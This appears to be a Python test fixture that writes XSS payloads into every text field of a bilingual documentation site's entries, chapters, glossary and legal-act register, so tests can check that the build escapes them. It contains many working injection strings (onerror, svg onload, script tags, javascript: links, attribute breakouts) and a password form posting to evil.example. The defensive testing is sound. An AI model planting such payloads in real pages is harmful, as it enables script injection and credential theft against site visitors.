"""Hostile content for security tests: a payload in every string field of an entry, of a chapter's
front matter, of the glossary and of an interface string, plus raw HTML in a chapter's Markdown and
markup in every kind of `title` content can write (link and image titles, abbreviation definitions, raw
`title` attributes), which Material's tooltips would insert as HTML (resources on this site only: a
remote one fails the build, which tests/test_hostile.py checks on its own).

`plant(project)` writes it into a copy of the project; `PAGES` lists the pages that show it.
Every payload carries a marker (`PWN`) so that a test can tell whether it reached a page as markup.
"""

from __future__ import annotations

from pathlib import Path

import yaml

MARK = "PWN"


def payload(n: int) -> str:
    """A string that runs script in three contexts: element content, an attribute, and `<title>`.

    The image has an empty `src` (its error handler fires at once): a relative `src=x` that survived
    sanitising would be a broken image, which the PDF build rightly reports.
    """
    return f'"><img src onerror=alert({n})>{MARK}{n}</title><script>alert({n})</script><svg/onload=alert({n})>'


def url_payload(n: int) -> str:
    """A URL that the schema accepts (no spaces) but that breaks out of an attribute."""
    return f'https://x.example/"><svg/onload=alert({n})>{MARK}{n}'


ENTRY_ID = "hostile-entry"
ORGANISATION_ID = "hostile-organisation"
SOURCE_ID = "hostile-source"
CHAPTER = "manuals/psn/10-hostile.md"


def hostile_entry() -> dict:
    """An entry that validates and carries a payload in every free-text field."""
    counter = iter(range(100, 1000))

    def text() -> dict[str, str]:
        return {"pl": payload(next(counter)), "en": payload(next(counter))}

    def org() -> dict[str, str]:
        return {**text(), "short": f'"><svg/onload=alert({next(counter)})>{MARK}'}

    def md() -> dict[str, str]:
        body = (
            "Tekst [link](javascript:alert(1)) <iframe src='frame.html'></iframe>\n\n"
            "<a href='javascript:alert(2)'>x</a> <b onclick=alert(3)>b</b>\n\n"
            "<a href='https://example.org' title='&lt;img src=x onerror=alert(4)&gt;PWN4'>title</a>"
            ' [tytuł](https://example.org "<img src=x onerror=alert(5)>PWN5")'
        )
        first, second = text()["pl"], text()["en"]
        return {"pl": f"{first}\n\n{body}", "en": f"{second}\n\n{body}"}

    return {
        "id": ENTRY_ID,
        "title": text(),
        "summary": text(),
        "status": "ongoing",
        "period": {"start": "2020-01", "end": "2021"},
        "implementer": {"name": org(), "actor_type": "ngo", "url": url_payload(next(counter))},
        "partners": [{"name": org(), "actor_type": "municipality", "country": "PL"}, {"organisation": ORGANISATION_ID}],
        "target_groups": ["minors"],
        "themes": ["education"],
        "geo": {"level": "local", "voivodeships": ["PL-22"], "city": payload(next(counter)), "countries": ["PL"]},
        "funding": [{"source": "other", "programme": text(), "grant_eur": 1000}],
        "total_cost_eur": 2000,
        "editor_note": payload(next(counter)),
        "project_number": payload(next(counter)),
        "description": md(),
        "how_it_works": md(),
        "results_text": md(),
        "transferability": md(),
        "lessons": md(),
        "results": [{"label": text(), "value": 12, "unit": text(), "qualifier": "about"}],
        "part_of": "avr-project",
        "contact": {
            "organisation": payload(next(counter)),
            "url": url_payload(next(counter)),
            "email": f'"><svg/onload=alert({next(counter)})>@x.pl',
        },
        "sources": [
            {
                "title": payload(next(counter)),
                "lang": "en",
                "url": url_payload(next(counter)),
                "accessed": "2026-01-01",
            },
            {"source": SOURCE_ID, "locator": text()},
        ],
        "last_reviewed": "2026-01-01",
    }


ACT_ID = "eu-reg-2024-1348"  # its titles and short forms carry payloads 700-704; the hostile chapter cites it
ACT_TEXT = {"": f"Prawo: [act: {ACT_ID}, art. 20] i [act: {ACT_ID}].", ".en": f"Law: [act: {ACT_ID}, Article 20]."}

CHAPTER_BODY = """
## Sekcja {p1}

Zwykły tekst z <script>alert(11)</script> i <img src onerror=alert(12)>.

<iframe src="frame.html"></iframe>

[kliknij](javascript:alert(13)) <a href="javascript:alert(14)">a</a> <b onmouseover=alert(15)>b</b>

<div style="background:url(bg.png)" onclick="alert(16)">styled</div>

<form action="https://evil.example/"><input name="password"></form>

<p id="__config">{{"base": "https://evil.example"}}</p>

!!! note "{p2}"
    Treść uwagi.

| a | b |
|---|---|
| {p3} | x |

Cytowanie: [source: hostile-source]

Podpowiedzi: [tytuł](https://example.org){{title="<img src=x onerror=alert(21)>PWN21"}} i skrót XYZQ w tekście.

![Logo](../../assets/images/logo.svg){{title="<img src=x onerror=alert(23)>PWN23"}}

<a href="https://example.org" title="&lt;img src=x onerror=alert(24)&gt;PWN24">surowy link</a>

*[XYZQ]: <img src=x onerror=alert(22)>PWN22
"""


def hostile_source() -> dict:
    """An archived source with a payload in every text field (its text too)."""
    from platforma.content.sources import text_digest

    text = f"{payload(500)}\n\n*emphasis* [link](javascript:alert(501)) <b>raw</b>"
    return {
        "id": SOURCE_ID,
        "title": {"pl": payload(502), "en": payload(503)},
        "kind": {"pl": payload(504), "en": payload(505)},
        "original_title": payload(506),
        "language": "en",
        "publisher": {"pl": payload(507), "en": payload(508)},
        "programme": {"pl": payload(509), "en": payload(510)},
        "project_number": payload(511),
        "url": url_payload(512),
        "captured": "2026-01-01",
        "received": "2026-01-02",
        "editor_note": payload(513),
        "sha256": text_digest(text),
        "text": text,
    }


def hostile_organisation() -> dict:
    """An organisation file with a payload in every string field (payloads 800-899); the hostile entry names it
    as a partner."""
    return {
        "id": ORGANISATION_ID,
        "name": {"pl": payload(800), "en": payload(801), "short": f'"><svg/onload=alert(802)>{MARK}'},
        "actor_type": "ngo",
        "country": "PL",
        "voivodeship": "PL-22",
        "city": payload(803),
        "url": url_payload(804),
        "sources": [
            {"title": payload(805), "lang": "en", "url": url_payload(806), "accessed": "2026-01-01"},
            {"source": SOURCE_ID, "locator": {"pl": payload(807), "en": payload(808)}},
        ],
        "editor_note": payload(809),
    }


def plant(project: Path) -> None:
    """Write the hostile entry and the organisation it names, a hostile chapter (both languages) citing a legal act
    whose titles are payloads, and a hostile glossary term."""
    source = project / "sources" / f"{SOURCE_ID}.yml"
    source.write_text(yaml.safe_dump(hostile_source(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    organisation = project / "organisations" / f"{ORGANISATION_ID}.yml"
    organisation.write_text(yaml.safe_dump(hostile_organisation(), allow_unicode=True, sort_keys=False), "utf-8")
    entry = project / "practices" / f"{ENTRY_ID}.yml"
    entry.write_text(yaml.safe_dump(hostile_entry(), allow_unicode=True, sort_keys=False), encoding="utf-8")
    for suffix, n in (("", 200), (".en", 300)):
        front = {
            "title": payload(n),
            "last_reviewed": "2026-01-01",
            "audience": payload(n + 1),
            "related": {"target_groups": ["minors"]},
        }
        body = CHAPTER_BODY.format(p1=payload(n + 2), p2=payload(n + 3), p3=payload(n + 4))
        body += f"\n\n{ACT_TEXT[suffix]}\n"
        path = project / CHAPTER.replace(".md", f"{suffix}.md")
        path.write_text("---\n" + yaml.safe_dump(front, allow_unicode=True) + "---\n" + body, encoding="utf-8")
    ui = project / "data" / "ui.yml"
    text = ui.read_text(encoding="utf-8")
    permalink = yaml.safe_dump({"permalink_title": {"pl": payload(600), "en": payload(601)}}, allow_unicode=True)
    ui.write_text(
        "\n".join(line for line in text.splitlines() if not line.startswith("permalink_title:")) + "\n" + permalink
    )
    register = project / "data" / "legal_acts.yml"
    acts = yaml.safe_load(register.read_text(encoding="utf-8"))
    acts[ACT_ID]["title"] = {"pl": payload(700), "en": payload(701)}
    acts[ACT_ID]["cited_as"] = {"pl": payload(702), "pl_genitive": payload(703), "en": payload(704)}
    register.write_text(yaml.safe_dump(acts, allow_unicode=True, sort_keys=False), encoding="utf-8")
    glossary = project / "data" / "glossary.yml"
    terms = yaml.safe_load(glossary.read_text(encoding="utf-8"))
    terms.append(
        {
            "term": {"pl": payload(400), "en": payload(401)},
            "abbr": True,
            "expansion": {"pl": payload(402), "en": payload(403)},
            "definition": {"pl": payload(404), "en": payload(405)},
            "source": {"pl": payload(406), "en": payload(407)},
        }
    )
    glossary.write_text(yaml.safe_dump(terms, allow_unicode=True, sort_keys=False), encoding="utf-8")


# Pages that show the payloads, without the language prefix.
PAGES = [
    f"practices/{ENTRY_ID}/",
    "practices/avr-project/",  # lists the entry as a component
    "practices/",  # the catalogue
    "",  # home: newest practices
    "manuals/psn/10-hostile/",
    "manuals/psn/",  # landing lists the chapter; the nav shows its title
    "manuals/psn/01-who-is-vulnerable/",  # nav shows the hostile chapter's title
    "glossary/",
    f"sources/{SOURCE_ID}/",
    "sources/",
    f"organisations/{ORGANISATION_ID}/",
    "organisations/",  # the directory
    f"pack/?c=psn/10-hostile&p={ENTRY_ID}",  # the training pack puts both pages together in the browser
]
